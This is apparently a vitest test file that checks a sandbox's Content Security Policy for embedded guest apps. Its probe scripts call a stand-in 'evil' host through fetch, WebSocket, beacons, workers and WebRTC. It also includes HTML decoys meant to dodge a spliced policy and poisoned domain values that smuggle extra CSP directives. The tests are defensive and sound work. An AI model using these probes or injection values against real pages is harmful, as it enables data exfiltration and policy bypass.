import { expect, test } from 'vitest';
import { verifies } from '../../test/verifies.js';
import { eventually } from '../support/eventually.js';
import { page, useSandbox, world } from './fixture.js';
import { mountApp, mountUndefended, toGuest, waitFor } from './support.js';
import { type World } from '../support/world.js';

useSandbox();

/** One request of each kind a policy can stop, and of some it cannot. */
const toProbes = ({ evil }: World): string => `
const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
fetch('${evil}/fetch', { mode: 'no-cors' }).catch(() => {});
add('img', { src: '${evil}/img' });
add('script', { src: '${evil}/script.js' });
new WebSocket('${evil.replace('http', 'ws')}/ws').onerror = () => {};
add('iframe', { src: '${evil}/frame' });
add('link', { rel: 'stylesheet', href: '${evil}/style' });
add('video', { src: '${evil}/video' });
add('object', { data: '${evil}/object' });
navigator.sendBeacon('${evil}/beacon', 'x');
const old = new XMLHttpRequest(); old.open('GET', '${evil}/xhr'); old.onerror = () => {}; old.send();
new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker', { mode: 'no-cors' })"])));`;

const toRtcProbe = ({ stunPort }: World): string => `
(async () => {
  try {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stunPort}' }] });
    peer.createDataChannel('x');
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && say('rtc', 'complete');
    await peer.setLocalDescription(await peer.createOffer());
  } catch (error) {
    say('rtc', String(error));
  }
})();`;

const paths = [
  '/beacon',
  '/fetch',
  '/frame',
  '/img',
  '/object',
  '/script.js',
  '/style',
  '/video',
  '/worker',
  '/ws',
  '/xhr',
];

const seen = (): string[] => [...new Set(world.hits)].sort();

test('control: without the sandbox every probe reaches the listener', async () => {
  await mountUndefended(page, world.servePlain('/all', toGuest(toProbes(world) + toRtcProbe(world))));
  await eventually(seen).toEqual(paths);
  await eventually(world.packets).toBeGreaterThan(0);
});

verifies(
  [
    'HOST-002',
    'HOST-004',
    'HOST-007',
    'HOST-008',
    'SANDBOX-005',
    'SANDBOX-006',
    'SANDBOX-008',
    'SANDBOX-009',
    'S4-21',
  ],
  'an app that declared nothing reaches nothing, and each refusal is reported twice',
  async () => {
    const app = await mountApp(page, world, toGuest(toProbes(world)));
    // A frame is reported by its origin only, the others by their whole address.
    const blocked = ['/fetch', '/img', '/script.js', '/ws', '/'];
    const pathOf = (address: unknown): string => new URL(String(address)).pathname;
    // The first witness is the listener inside the guest's own page.
    await eventually(async () =>
      (await app.sandboxMessages('violation')).map(({ directive }) => directive),
    ).toEqual(
      expect.arrayContaining([
        'connect-src',
        'img-src',
        'script-src-elem',
        'frame-src',
        'style-src-elem',
        'media-src',
      ]),
    );
    const told = (await app.sandboxMessages('violation')).map(({ blockedUri }) => pathOf(blockedUri));
    expect(told).toEqual(expect.arrayContaining(blocked));
    // The browser's own report, which guest code cannot forge or stop.
    await eventually(() => world.reports.map(({ blockedUri }) => pathOf(blockedUri))).toEqual(
      expect.arrayContaining(blocked),
    );
    expect(world.reports[0]).toMatchObject({ appOrigin: app.appOrigin, resource: 'ui://test/app' });
    expect(world.hits).toEqual([]);
  },
);

test('WebRTC sends no packet and the app lives on', async () => {
  const app = await mountApp(
    page,
    world,
    toGuest(`${toRtcProbe(world)} setTimeout(() => say('alive', true), 1000);`),
  );
  await waitFor(app, 'alive');
  expect(world.packets()).toBe(0);
});

verifies(
  ['HOST-001', 'SANDBOX-005', 'SANDBOX-006', 'S2-42', 'S4-18', 'S4-19'],
  'a declared origin is reached, for exactly the purposes it was declared for',
  async () => {
    const all = {
      connectDomains: [world.evil, world.evil.replace('http', 'ws')],
      resourceDomains: [world.evil],
    };
    await mountApp(page, world, toGuest(toProbes(world)), { csp: { ...all, frameDomains: [world.evil] } });
    await eventually(seen).toEqual(paths.filter((path) => path !== '/object'));
    world.forget();
    const app = await mountApp(page, world, toGuest(toProbes(world)), {
      csp: { resourceDomains: [world.evil] },
    });
    await eventually(seen).toEqual(['/img', '/script.js', '/style', '/video']);
    const guest = await app.guest();
    expect(await guest.evaluate('scriptRan')).toBe(true);
  },
);

const decoys = [
  '<!--<head>-->',
  '<title><head></title>',
  '<p title="<head>">',
  '\ufeff<!-- --!><noscript><head></noscript>',
  `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">`,
  '<base href="https://evil.example/">',
];

test('control: a policy spliced into the HTML is avoided by a decoy', async () => {
  const html = `<!--<head>--><script>fetch('${world.evil}/decoy', { mode: 'no-cors' })</script>`;
  const spliced = html.replace(
    '<head>',
    `<head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'unsafe-inline'">`,
  );
  await mountUndefended(page, world.servePlain('/spliced', spliced));
  await eventually(seen).toEqual(['/decoy']);
});

verifies('HOST-007', 'whatever the HTML begins with, the policy is already in force', async () => {
  for (const decoy of decoys) {
    const early = `<script>fetch('${world.evil}/early', { mode: 'no-cors' }).catch(() => {})</script>`;
    const app = await mountApp(page, world, toGuest(`say('base', document.baseURI);`, decoy + early));
    expect(await waitFor(app, 'base')).toContain(app.appOrigin);
    await eventually(async () =>
      (await app.sandboxMessages('violation')).map(({ directive }) => directive),
    ).toContain('connect-src');
  }
  expect(world.hits).toEqual([]);
});

test('a guest that opens its document again keeps its policy', async () => {
  const again = `setTimeout(() => { document.open(); document.write('<script>fetch("${world.evil}/again", { mode: "no-cors" }).catch((error) => parent.postMessage({ jsonrpc: "2.0", method: "notifications/message", params: { topic: "again", value: String(error) } }, "*"))</scr' + 'ipt>'); document.close(); }, 100);`;
  const app = await mountApp(page, world, toGuest(again));
  expect(await waitFor(app, 'again')).toContain('TypeError');
  expect(world.hits).toEqual([]);
});

verifies('SANDBOX-007', 'a base address outside the declared ones is refused', async () => {
  const app = await mountApp(
    page,
    world,
    toGuest(`say('base', document.baseURI);`, `<base href="${world.evil}/">`),
  );
  expect(await waitFor(app, 'base')).toContain(app.appOrigin);
  const declared = await mountApp(
    page,
    world,
    toGuest(`say('base', document.baseURI);`, `<base href="${world.evil}/">`),
    { csp: { baseUriDomains: [world.evil] } },
  );
  expect(await waitFor(declared, 'base')).toBe(`${world.evil}/`);
});

verifies('HOST-004', 'poisoned domains change nothing and the app still renders', async () => {
  const { evil, hostOrigin, base } = world;
  const values = [
    `${evil}; script-src *`,
    `https://a.example ${evil}`,
    `https://a.example\t${evil}`,
    `https://a.example\n${evil}`,
    '*',
    'http:',
    "'unsafe-eval'",
    "'strict-dynamic'",
    "$& $' $`",
    '"><script>',
    hostOrigin,
    base,
    42,
    null,
    { toString: () => evil },
    'https://'.padEnd(200_000, 'a'),
    ...Array.from({ length: 1000 }, () => `${evil}/path`),
  ];
  const csp = {
    connectDomains: values,
    resourceDomains: values,
    frameDomains: values,
    baseUriDomains: values,
  };
  const probe = `${toProbes(world)}
    try { eval('1'); say('eval', 'ran'); } catch (error) { say('eval', error.name); }
    fetch('${hostOrigin}/', { mode: 'no-cors' }).then(() => say('host', 'reached'), () => say('host', 'refused'));`;
  const app = await mountApp(page, world, toGuest(probe), { csp });
  expect(await waitFor(app, 'eval')).toBe('EvalError');
  expect(await waitFor(app, 'host')).toBe('refused');
  await eventually(async () => (await app.sandboxMessages('violation')).length).toBeGreaterThan(4);
  expect(world.hits).toEqual([]);
});

test('an app that declares domains may run scripts it makes itself, also in a worker; the default may not', async () => {
  const imports = `const module = 'data:text/javascript,postMessage(7)';
    import('data:text/javascript,export default 7').then(({ default: value }) => say('page', value), () => say('page', 'refused'));
    const worker = new Worker(URL.createObjectURL(new Blob(['import("' + module + '").catch(() => postMessage("refused"))'], { type: 'text/javascript' })), { type: 'module' });
    worker.onmessage = ({ data }) => say('worker', data);`;
  const declared = await mountApp(page, world, toGuest(imports), { csp: {} });
  expect([await waitFor(declared, 'page'), await waitFor(declared, 'worker')]).toEqual([7, 7]);
  const plain = await mountApp(page, world, toGuest(imports));
  expect([await waitFor(plain, 'page'), await waitFor(plain, 'worker')]).toEqual(['refused', 'refused']);
});
